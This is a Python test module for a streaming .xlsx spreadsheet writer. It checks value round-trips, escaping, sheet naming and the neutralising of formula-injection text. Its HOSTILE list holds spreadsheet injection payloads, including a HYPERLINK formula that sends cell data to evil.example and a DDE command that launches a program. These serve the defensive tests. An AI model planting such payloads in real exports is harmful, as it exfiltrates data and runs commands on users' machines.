"""The streamed .xlsx writer (core.xlsx_stream): what it writes opens in openpyxl — full and
read-only modes — with every value, type and sheet as written, and hostile text stays text."""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils.safestring import SafeString
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.interfaces.exports import write_xlsx
from core.spreadsheet import FORMULA_TRIGGERS, xlsx_value
from core.xlsx_stream import StreamingWorkbook, column_letter

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x01=1+1"]


def _written(*sheets) -> bytes:
    buffer = io.BytesIO()
    with StreamingWorkbook(buffer) as book:
        for title, rows in sheets:
            sheet = book.create_sheet(title)
            for row in rows:
                sheet.append(row)
    return buffer.getvalue()


def _read(content: bytes, read_only=False) -> dict:
    book = load_workbook(io.BytesIO(content), read_only=read_only)
    return {sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
            for sheet in book.worksheets}


def test_values_read_back_with_their_types():
    row = ["Nguyễn Văn An", -3, 4.5, True, False, Decimal("1.25"), datetime.date(2025, 1, 2),
           datetime.datetime(2025, 1, 2, 3, 4, 5), datetime.time(12, 30), None, "", 10**12]
    content = _written(("Sổ", [row]))
    expected = ["Nguyễn Văn An", -3, 4.5, True, False, 1.25,
                datetime.datetime(2025, 1, 2), datetime.datetime(2025, 1, 2, 3, 4, 5),
                datetime.time(12, 30), None, None, 10**12]
    assert _read(content) == {"Sổ": [expected]}
    assert _read(content, read_only=True) == {"Sổ": [expected]}
    cells = load_workbook(io.BytesIO(content)).active[1]
    assert [cell.data_type for cell in cells[:7]] == ["s", "n", "n", "b", "b", "n", "d"]


def test_xml_special_characters_and_spaces_survive():
    text = ' <b>Trần & "Lê"</b>\r\n\'x\'\t '
    assert _read(_written(('Tên <"&">', [[text]]))) == {'Tên <"&">': [[text]]}


def test_empty_cells_keep_the_columns_in_place():
    assert _read(_written(("T", [[None, "b", None, 3], [], ["a"]]))) == {"T": [
        [None, "b", None, 3], [None, None, None, None], ["a", None, None, None]]}


def test_columns_past_z_are_lettered_as_excel_does():
    assert [column_letter(n) for n in (1, 26, 27, 52, 53, 702, 703, 16384)] == [
        "A", "Z", "AA", "AZ", "BA", "ZZ", "AAA", "XFD"]
    row = list(range(100))
    assert _read(_written(("T", [row]))) == {"T": [row]}


def test_sheets_are_written_in_order_and_an_empty_book_has_one():
    content = _written(("Một", [[1]]), ("Hai", [[2], [3]]))
    assert _read(content) == {"Một": [[1]], "Hai": [[2], [3]]}
    assert zipfile.ZipFile(io.BytesIO(content)).testzip() is None
    assert _read(_written()) == {"Sheet": []}


@pytest.mark.parametrize("title", ["", "a/b", "a[1]", "x" * 32, "what?"])
def test_titles_excel_refuses_are_refused(title):
    with pytest.raises(ValueError), StreamingWorkbook(io.BytesIO()) as book:
        book.create_sheet(title)


def test_a_duplicate_title_is_refused_and_a_finished_sheet_takes_no_rows():
    with StreamingWorkbook(io.BytesIO()) as book:
        first = book.create_sheet("A")
        book.create_sheet("B")
        with pytest.raises(ValueError):
            book.create_sheet("a")
        with pytest.raises(ValueError):
            first.append([1])


def test_values_of_unknown_types_are_refused_not_stringified():
    with pytest.raises(TypeError), StreamingWorkbook(io.BytesIO()) as book:
        book.create_sheet("T").append([object()])
    with pytest.raises(TypeError), StreamingWorkbook(io.BytesIO()) as book:
        book.create_sheet("T").append([datetime.datetime.now(datetime.UTC)])


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_written_quoted_as_text(text):
    content = io.BytesIO()
    write_xlsx(content, "T", ["Họ tên"], [[text, -2]])
    cells = [(c.value, c.data_type) for row in load_workbook(content).active.iter_rows()
             for c in row]
    assert cells == [("Họ tên", "s"), (None, "n"),
                     ("'" + text.lstrip("\x01"), "s"), (-2, "n")]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",))), min_size=1,
                max_size=5))
def test_no_written_text_reads_back_as_a_formula(texts):
    content = io.BytesIO()
    write_xlsx(content, "T", ["x"], [texts])
    sheet = load_workbook(content).active
    values = [cell.value for cell in sheet[2] if cell.value is not None]
    assert all(cell.data_type == "s" for cell in sheet[2] if cell.value is not None)
    assert [v for v in values if v.startswith(FORMULA_TRIGGERS)] == []


def test_rows_continue_on_a_new_sheet_through_write_xlsx():
    content = io.BytesIO()
    assert write_xlsx(content, "Sổ", ["Năm"], [[2020], [2021], [2022]], max_rows=3) == 2
    assert _read(content.getvalue()) == {"Sổ": [["Năm"], [2020], [2021]],
                                         "Sổ (2)": [["Năm"], [2022]]}


# Text a database column may hold (lone surrogates cannot be encoded; U+FFFE/U+FFFF are not
# XML characters, as before with openpyxl).
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff"))


@settings(max_examples=150, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=4))
def test_text_is_neutralised_exactly_as_xlsx_value_does(texts):
    """The sheet applies the neutraliser's rule for plain text inline (speed): what reads
    back must be `xlsx_value`'s answer, cell for cell."""
    # A last column of 0 keeps every text column in the sheet's width, even when empty.
    rows = _read(_written(("T", [[*texts, 0]])))["T"]
    assert rows == [[*(xlsx_value(text) or None for text in texts), 0]]


def test_other_values_go_through_the_neutraliser():
    lazy = gettext_lazy("=Yes")  # no catalogue entry: its text is "=Yes"
    assert _read(_written(("T", [[lazy, SafeString("+1"), "\x02", -1.5]]))) == {
        "T": [["'=Yes", "'+1", None, -1.5]]}
